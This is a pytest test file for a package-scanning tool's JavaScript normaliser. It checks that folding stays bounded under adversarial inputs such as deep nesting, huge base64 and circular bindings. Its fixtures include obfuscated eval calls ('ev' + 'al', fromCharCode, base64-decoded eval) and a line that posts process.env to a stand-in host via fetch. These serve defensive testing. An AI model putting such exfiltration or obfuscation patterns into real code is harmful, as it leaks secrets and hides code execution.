"""Normaliser bombs: deep nesting, 100k concatenations, huge base64, table blow-up. Every bound
is asserted by counts and sizes (never by timing): folding stops, the surface is still read."""

from __future__ import annotations

import base64

from chainwatch.analysis import normalize as N
from chainwatch.analysis.chains import find_chains
from chainwatch.analysis.engine import Engine
from chainwatch.analysis.rules import load_rules
from chainwatch.model import PackageFile

ENGINE = Engine(load_rules())


def test_100k_concatenations_fold_without_recursion() -> None:
    src = ("x = " + " + ".join(["'a'"] * 100_000) + ";\n").encode()
    out = N.normalize(src)
    # the result is longer than one folded string may be: left as it is, and bounded work
    assert out.folds <= N.MAX_FOLDS + 1
    assert len(out.text) <= len(src) + N.MAX_GROWTH


def test_long_concatenation_below_the_string_bound_folds() -> None:
    src = ("x = " + " + ".join(["'ab'"] * 5_000) + ";").encode()
    assert N.normalize(src).text == b'x = "' + b"ab" * 5_000 + b'";'


def test_deep_nesting_hits_the_depth_bound() -> None:
    depth = N.MAX_DEPTH * 2
    src = ("x = " + "(" * depth + "'a' + 'b'" + ")" * depth + " + 'c';\n"
           + "global['ev' + 'al'](c);\n").encode()
    out = N.normalize(src)
    assert any("depth" in limit for limit in out.limits)
    found = ENGINE.scan_file(PackageFile("index.js", src))
    assert "CW-NORMALIZE-LIMIT" in {f.rule for f in found}
    assert "CW-EVAL-DYNAMIC" in {f.rule for f in found}  # the rest of the file still folds


def test_very_deep_nesting_is_not_searched_quadratically() -> None:
    depth = 20_000
    src = ("x = " + "(" * depth + "'a' + 'b'" + ")" * depth + ";\n"
           + "global['ev' + 'al'](c);\n").encode()
    out = N.normalize(src)
    assert b"eval(c)" in out.text  # matches start at most MAX_QUERY_DEPTH deep
    assert out.folds < 100


def test_huge_base64_is_not_decoded() -> None:
    blob = base64.b64encode(b"console.log(1);" * 200_000).decode()  # about 4 MB
    src = f"eval(Buffer.from('{blob}', 'base64').toString())".encode()
    out = N.normalize(src)
    assert len(out.text) <= len(src) + N.MAX_GROWTH
    assert b"console.log(1);console.log(1);" not in out.text


def test_binary_base64_is_not_decoded() -> None:
    src = b"x = Buffer.from('" + base64.b64encode(bytes(range(256))) + b"', 'base64')"
    assert N.normalize(src).text == src


def test_table_lookups_cannot_blow_up_the_view() -> None:
    big = "A" * 30_000
    src = (f"var t = ['{big}'];\nvar s = 'x' + 'y';\n" + "f(t[0]);\n" * 1_000).encode()
    assert len(src) <= N.FULL_BYTES
    out = N.normalize(src)
    assert len(out.text) <= len(src) + N.MAX_GROWTH + 40_000
    assert any("larger" in limit for limit in out.limits)


def test_many_windows_in_a_large_file_are_bounded() -> None:
    chunk = "var q = String.fromCharCode(101, 118, 97, 108);" + " " * 5_000 + "\n"
    src = (chunk * 200).encode()
    assert len(src) > N.FULL_BYTES
    out = N.normalize(src)
    assert any(str(N.MAX_WINDOWS) in limit for limit in out.limits)
    assert out.text.count(b'"eval"') == N.MAX_WINDOWS


def test_chain_analysis_is_bounded_by_nodes() -> None:
    src = ("var a = 1;\n" * 60_000 + "fetch('https://x.invalid', {body: process.env});\n").encode()
    assert len(src) > 128 * 1024
    assert find_chains(src) == []  # too large: not followed (the rules still read the file)


def test_bindings_that_lead_back_to_themselves_are_no_constant_and_no_crash() -> None:
    """Found by a first-day user in @babel/traverse: a name bound to an element of a name
    bound to a decoder-like call of the first (``visitors = visitor[0]; visitor =
    explode(visitors[0])``) sent the normaliser round the circle until Python's stack ran out."""
    two = (b'function explode(v) { const parts = v.split("|"); throw new Error(`${"x"}`); }\n'
           b"const visitors = visitor[0];\nconst visitor = explode(visitors[0]);\n")
    ring = ("function d(s) { return s.split('').reverse().join(''); }\n"
            + "".join(f"const v{i} = d(v{(i + 1) % 50}[0]);\n" for i in range(50))).encode()
    for src, line in ((two, b"const visitor = explode(visitors[0]);"),
                      (ring, b"const v49 = d(v0[0]);")):
        out = N.normalize(src)
        assert line in out.text  # nothing constant to fold: the circle is left as written
        assert not out.limits
        found = ENGINE.scan_file(PackageFile("index.js", src))
        assert "CW-NORMALIZE-LIMIT" not in {f.rule for f in found}


# many folds, so the time backstop is looked at several times (every 1024 folds)
_MANY_FOLDS = ("".join(f"var v{i} = 'ev' + 'al';\n" for i in range(2_000))).encode()


def test_a_starved_thread_folds_what_an_idle_one_folds(monkeypatch: object) -> None:
    """The backstop counts this thread's CPU time: wall time lost to a loaded machine (here
    each look at the clock jumps a second) changes nothing under MAX_WALL_SECONDS."""
    import pytest

    assert isinstance(monkeypatch, pytest.MonkeyPatch)
    N._normalize.cache_clear()  # a view is kept for the file's next reader
    idle = N.normalize(_MANY_FOLDS)
    assert idle.limits == [] and idle.folds >= 2_000
    N._normalize.cache_clear()
    wall = iter(range(0, 10**6))
    monkeypatch.setattr(N.time, "monotonic", lambda: float(next(wall)))
    starved = N.normalize(_MANY_FOLDS)
    assert (starved.text, starved.limits) == (idle.text, idle.limits)


def test_the_cpu_backstop_stops_folding(monkeypatch: object) -> None:
    import pytest

    assert isinstance(monkeypatch, pytest.MonkeyPatch)
    cpu = iter(range(0, 10**6))
    N._normalize.cache_clear()
    monkeypatch.setattr(N.time, "thread_time", lambda: float(next(cpu)))
    out = N.normalize(_MANY_FOLDS)
    assert any("CPU s" in limit for limit in out.limits)
    assert b"eval" not in out.text  # folding stopped (an idle run folds every one)
    N._normalize.cache_clear()
